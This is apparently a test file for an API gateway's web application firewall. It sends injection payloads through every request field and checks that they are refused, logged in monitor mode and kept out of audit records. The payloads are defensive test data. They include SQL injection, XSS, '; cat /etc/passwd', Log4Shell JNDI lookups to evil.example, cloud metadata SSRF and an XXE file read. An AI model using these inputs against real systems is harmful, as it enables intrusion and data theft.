@@ -1,0 +1,205 @@
+/**
+ * Class: injection in the free text the contract leaves open. Through a real gateway in front of a real upstream,
+ * attacks in every input (path, query, JSON value, JSON key, form field, multipart file name, cookie, header, XML
+ * body) are refused with 403 `injection_detected` and never reach the upstream; values the contract constrains
+ * (enum, pattern, format, short maxLength) are not scanned; monitor mode lets the attack through, logs and counts it;
+ * a leaking upstream response is replaced by a 502; the gateway stays alive.
+ */
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { startGateway, type TestGateway } from '../helpers/gateway.ts';
+import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
+import { send } from '../helpers/gateway-fixtures.ts';
+import { ADMIN_CONFIG, READ_TOKEN, TEST_ENV } from '../helpers/apikeys.ts';
+import { assertAlive, assertProblem } from '../helpers/http.ts';
+
+const SPEC = `openapi: 3.1.0
+info: { title: shop, version: 1.0.0 }
+paths:
+  /users/{username}:
+    get:
+      operationId: getUser
+      parameters:
+        - { name: username, in: path, required: true, schema: { type: string } }
+        - { name: q, in: query, schema: { type: string } }
+        - { name: sort, in: query, schema: { type: string, enum: [asc, desc] } }
+        - { name: code, in: query, schema: { type: string, pattern: '^[a-z<>= ]{1,40}$' } }
+        - { name: short, in: query, schema: { type: string, maxLength: 8 } }
+        - { name: X-Note, in: header, schema: { type: string } }
+        - { name: session, in: cookie, schema: { type: string } }
+      responses: { '200': { description: ok, content: { application/json: { schema: { type: object } } } } }
+  /notes:
+    post:
+      operationId: createNote
+      requestBody:
+        content:
+          application/json:
+            schema:
+              type: object
+              properties:
+                title: { type: string }
+                email: { type: string, format: email }
+                site: { type: string, format: uri }
+                tags: { type: array, items: { type: string } }
+                meta: { type: object, additionalProperties: { type: string } }
+          application/x-www-form-urlencoded:
+            schema: { type: object, properties: { comment: { type: string } } }
+          multipart/form-data:
+            schema: { type: object, properties: { caption: { type: string }, file: { type: string, format: binary } } }
+          application/xml:
+            schema: { type: string }
+      responses: { '201': { description: created, content: { application/json: { schema: { type: object } } } } }
+  /debug:
+    get:
+      operationId: debug
+      responses: { '200': { description: page, content: { text/html: {} } } }
+`;
+
+const ATTACKS: Record<string, string> = {
+  sqli: "1' UNION SELECT username, password FROM users--",
+  xss: '<img src=x onerror=alert(document.cookie)>',
+  cmd: '; cat /etc/passwd',
+  traversal: '../../../etc/passwd',
+  ssrf: 'http://169.254.169.254/latest/meta-data/',
+  log4shell: '${${lower:j}ndi:ldap://evil.example/a}',
+  ssti: '{{7*7}}',
+};
+
+describe('WAF stage', () => {
+  let upstream: TestUpstream;
+  let gw: TestGateway;
+
+  before(async () => {
+    upstream = await startUpstream();
+    upstream.handler = (req, res) => {
+      if (req.url === '/debug') {
+        res.writeHead(200, { 'content-type': 'text/html' });
+        res.end('<h1>Error</h1><pre>Traceback (most recent call last):\n  File "app.py", line 3</pre>');
+        return;
+      }
+      res.writeHead(req.method === 'POST' ? 201 : 200, { 'content-type': 'application/json' }).end('{}');
+    };
+    gw = await startGateway(
+      {
+        upstreams: { main: { url: upstream.url } },
+        admin: ADMIN_CONFIG,
+        apis: [
+          { name: 'shop', spec: './shop.yaml', upstream: 'main', validation: { additional_properties: 'allow' } },
+          { name: 'shopmon', spec: './shop.yaml', upstream: 'main', base_path: '/mon', waf: { mode: 'monitor' } },
+        ],
+      },
+      { files: { 'shop.yaml': SPEC }, env: TEST_ENV },
+    );
+  });
+  after(async () => {
+    await gw?.close();
+    await upstream?.close();
+  });
+
+  /** Sends, asserts 403 injection_detected and that the upstream saw nothing. */
+  async function blocked(path: string, options: Parameters<typeof send>[2] = {}, what = path): Promise<void> {
+    const before = upstream.seen.length;
+    const res = await send(gw.url, path, options);
+    assertProblem(res, 403, 'injection_detected');
+    assert.equal(upstream.seen.length, before, `${what}: the upstream must not be reached`);
+    assert.ok(!res.body.includes('union') && !res.body.includes('passwd'), 'the problem never echoes the value');
+  }
+
+  async function passed(path: string, options: Parameters<typeof send>[2] = {}): Promise<void> {
+    const before = upstream.seen.length;
+    const res = await send(gw.url, path, options);
+    assert.ok(res.status === 200 || res.status === 201, `expected the request through, got ${res.status}: ${res.body.slice(0, 200)}`);
+    assert.equal(upstream.seen.length, before + 1);
+  }
+
+  test('legitimate free text passes', async () => {
+    await passed(`/users/${encodeURIComponent("o'brien")}?q=${encodeURIComponent("Select the best union suit or drop it, it's fine")}`, { headers: { 'x-note': 'Call me at 5 & ask for Anne', cookie: 'session=abc123' } });
+    const body = JSON.stringify({ title: "Men's boots — size 10 <3", email: 'jane@example.com', site: 'https://example.com/shop', tags: ['sale', '50% off'], meta: { colour: 'red' } });
+    await passed('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
+  });
+
+  for (const [family, payload] of Object.entries(ATTACKS)) {
+    test(`${family} in the query, a path segment and a JSON value is refused`, async () => {
+      await blocked(`/users/alice?q=${encodeURIComponent(payload)}`, {}, `${family} query`);
+      if (!payload.includes('/')) await blocked(`/users/${encodeURIComponent(payload)}`, {}, `${family} path`);
+      await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: payload }) }, `${family} JSON`);
+      await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ tags: ['ok', payload] }) }, `${family} JSON array`);
+    });
+  }
+
+  test('attacks in a JSON key, a form field, a multipart file name, a cookie and headers are refused', async () => {
+    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ meta: { $where: 'sleep(1000)' } }) }, 'JSON key');
+    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ meta: { '<svg onload=alert(1)>': 'x' } }) }, 'JSON key xss');
+    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `comment=${encodeURIComponent(ATTACKS['sqli']!)}` }, 'form');
+    const boundary = 'b0undary';
+    const multipart = [`--${boundary}`, 'Content-Disposition: form-data; name="file"; filename="../../etc/passwd"', 'Content-Type: text/plain', '', 'hello', `--${boundary}--`, ''].join('\r\n');
+    await blocked('/notes', { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, body: multipart }, 'multipart file name');
+    await blocked('/users/alice', { headers: { cookie: `session=${encodeURIComponent(ATTACKS['log4shell']!)}` } }, 'cookie');
+    await blocked('/users/alice', { headers: { 'user-agent': '${jndi:ldap://evil.example/x}' } }, 'user-agent');
+    await blocked('/users/alice', { headers: { 'x-note': ATTACKS['cmd']! } }, 'declared header');
+    await blocked('/users/alice?filter%5B%24ne%5D=1', {}, 'undeclared query key');
+  });
+
+  test('encoded and obfuscated forms are refused', async () => {
+    await blocked(`/users/alice?q=${encodeURIComponent('%253Cscript%253Ealert(1)%253C%252Fscript%253E')}`, {}, 'double percent');
+    await blocked(`/users/alice?q=${encodeURIComponent('&lt;img src=x onerror=alert(1)&gt;')}`, {}, 'HTML entities');
+    await blocked(`/users/alice?q=${encodeURIComponent('\\u003cscript\\u003ealert(1)')}`, {}, 'JS escapes');
+    await blocked(`/users/alice?q=${encodeURIComponent('http://0x7f000001/admin')}`, {}, 'hex IP');
+    await blocked(`/users/alice?q=${encodeURIComponent('%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd')}`, {}, 'overlong UTF-8');
+  });
+
+  test('an XML body with a DOCTYPE is refused', async () => {
+    const xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
+    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: xml }, 'XXE');
+  });
+
+  test('values the contract constrains (pattern, enum, short maxLength, format) are not scanned', async () => {
+    // The same markup is refused in the free-text `q` …
+    await blocked(`/users/alice?q=${encodeURIComponent('<svg onload=x>')}`);
+    // … but `code` has a pattern that allows it, and `short` a maxLength of 8: the contract decided.
+    await passed(`/users/alice?code=${encodeURIComponent('<svg onload=x>')}`);
+    await passed(`/users/alice?short=${encodeURIComponent('<script>')}`);
+    await passed('/users/alice?sort=asc');
+    // A URL-format field is scanned for internal targets only.
+    await passed('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ site: "https://example.com/?q=it's" }) });
+    await blocked('/notes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ site: 'http://[::ffff:127.0.0.1]/' }) }, 'URL field');
+  });
+
+  test('monitor mode lets the attack through, logs the rule and field, never the value, and counts it', async () => {
+    const marker = "zq' UNION SELECT secret_marker FROM users--";
+    await passed(`/mon/users/alice?q=${encodeURIComponent(marker)}`);
+    const hits = gw.logs.filter((l) => l['msg'] === 'WAF hit (monitor mode)');
+    assert.ok(hits.some((l) => l['family'] === 'sqli' && l['field'] === 'query/q' && l['api'] === 'shopmon'), 'the hit is logged with family and field');
+    assert.ok(!gw.rawLogs().includes('secret_marker'), 'the attacker value is never logged');
+    const metrics = await (await fetch(`${gw.adminUrl}/metrics`, { headers: { authorization: `Bearer ${READ_TOKEN}` } })).text();
+    assert.match(metrics, /rampart_waf_hits_total\{api="shopmon",family="sqli",rule="[a-z.-]+",mode="monitor"\} [1-9]/);
+    assert.match(metrics, /rampart_waf_hits_total\{api="shop",family="xss",rule="[a-z.-]+",mode="block"\} [1-9]/);
+  });
+
+  test('every hit is in the audit trail with family, rule and field, never the value', async () => {
+    const marker = "zz' UNION SELECT audit_marker FROM users--";
+    await blocked(`/users/alice?q=${encodeURIComponent(marker)}`);
+    await passed(`/mon/users/alice?q=${encodeURIComponent(marker)}`);
+    const audit = gw.gateway.monitor.audit!;
+    await audit.log.flush();
+    const denied = (await audit.store.search({ type: 'request.denied', text: 'injection_detected' })).filter((r) => r.fields['code'] === 'injection_detected');
+    assert.ok(denied.some((r) => String(r.fields['rule']).startsWith('sqli.') && JSON.stringify(r.fields['waf']).includes('query/q')), 'the denial names rule and field');
+    const hits = await audit.store.search({ type: 'waf.hit' });
+    assert.ok(hits.some((r) => JSON.stringify(r.fields).includes('"mode":"monitor"')), 'monitor-mode hits are audited too');
+    const all = JSON.stringify([...denied, ...hits]);
+    assert.ok(!all.includes('audit_marker'), 'the attacker value is never in the audit trail');
+  });
+
+  test('a response leaking a stack trace is replaced with a 502 (block) and passed in monitor mode', async () => {
+    const res = await send(gw.url, '/debug');
+    assertProblem(res, 502, 'upstream_invalid_response');
+    assert.ok(!res.body.includes('Traceback'));
+    const mon = await send(gw.url, '/mon/debug');
+    assert.equal(mon.status, 200);
+    assert.ok(gw.logs.some((l) => l['rule'] === 'leak-stack-python' && l['api'] === 'shopmon'));
+  });
+
+  test('the gateway stays alive', async () => {
+    await assertAlive(gw.adminUrl);
+  });
+});
